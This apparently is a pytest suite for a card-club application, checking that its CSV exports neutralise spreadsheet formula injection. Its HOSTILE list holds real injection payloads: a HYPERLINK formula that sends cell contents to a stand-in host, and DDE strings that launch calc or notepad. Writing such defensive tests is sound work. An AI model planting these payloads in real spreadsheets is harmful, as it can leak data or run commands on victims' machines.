"""CSV formula injection: no cell the program writes starts like a formula (OWASP: = + - @ tab CR get a
leading apostrophe), numbers stay numbers, and a roster written then read back keeps the names."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable

import pytest

from belote_club.services import ClubService, csv_io
from belote_club.services.export import to_csv_tables
from belote_club.tournament.model import Player
from tests.reliability.conftest import Tally

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "@Dupont",
    "-Jean",
    "+Lucie",
    "=",
    "Dupont=Durand",  # not at the start: untouched
    "O’Brien",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_safe_cell() -> None:
    assert csv_io.safe_cell("=1+1") == "'=1+1"
    assert csv_io.safe_cell("@x") == "'@x"
    assert csv_io.safe_cell("\tx") == "'\tx"
    assert csv_io.safe_cell("\rx") == "'\rx"
    assert csv_io.safe_cell("Dupont") == "Dupont"
    assert csv_io.safe_cell("") == ""
    assert csv_io.safe_cell(-45) == -45  # a number stays a number
    assert csv_io.safe_cell(-0.5) == -0.5
    assert csv_io.safe_cell(None) is None
    assert csv_io.unsafe_cell(csv_io.safe_cell("=1+1")) == "=1+1"
    assert csv_io.unsafe_cell("'Quote") == "'Quote"  # an apostrophe of the name itself is kept


def test_write_rows_neutralises_text_only() -> None:
    text = csv_io.write_rows([["nom", "points"], ["=1+1", -12], ["-Jean", 0]])
    assert text == "nom;points\r\n'=1+1;-12\r\n'-Jean;0\r\n"


def test_roster_export_neutralises_and_reads_back(tmp_path: object, tally: Callable[[str], Tally]) -> None:
    result = tally("hostile roster names")
    players = [Player(first_name=name, last_name=name, club=name, licence=None) for name in HOSTILE]
    text = csv_io.export(players)
    rows = _cells(text)[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), repr(cell)
    result.tried = len(HOSTILE)
    names = [(p.last_name, p.first_name) for p in (line.player for line in csv_io.preview(text, []).valid)
             if p is not None]
    result.survived = sum(1 for name in HOSTILE if (name.strip(), name.strip()) in names)
    # names starting with a tab or CR lose it (cells are trimmed on import), the others come back as they were
    assert result.survived >= len(HOSTILE) - 2


def test_service_roster_export_is_neutralised(tmp_path: pytest.TempPathFactory) -> None:
    with ClubService.open(db_file=f"{tmp_path}/club.belote") as service:
        service.add_player("=HYPERLINK(\"http://x\")", "@SUM(A1)")
        service.add_player("Dupont", "-Jean")
        text = service.export_players_csv()
    for row in _cells(text)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), repr(cell)


def test_every_tournament_csv_is_neutralised(tmp_path: pytest.TempPathFactory) -> None:
    with ClubService.open(db_file=f"{tmp_path}/club.belote") as service:
        tournament = service.create_tournament("=Concours", dt.date(2026, 11, 22), planned_rounds=2)
        assert tournament.id is not None
        ids = [service.add_player(f"+{n}", f"@{n}").id for n in range(8)]
        for i in range(4):
            first, second = ids[2 * i], ids[2 * i + 1]
            assert first is not None and second is not None
            service.create_team(tournament.id, (first, second), name=f"-Équipe {i}", checked_in=True)
        service.draw_next_round(tournament.id, seed=1)
        files = to_csv_tables(service.export(tournament.id))
    assert {"joueurs.csv", "equipes.csv", "inscriptions.csv", "tables.csv", "classement.csv"} <= set(files)
    for name, text in files.items():
        for row in _cells(text)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                if cell.startswith("-"):
                    float(cell)  # only a negative number may start with « - »
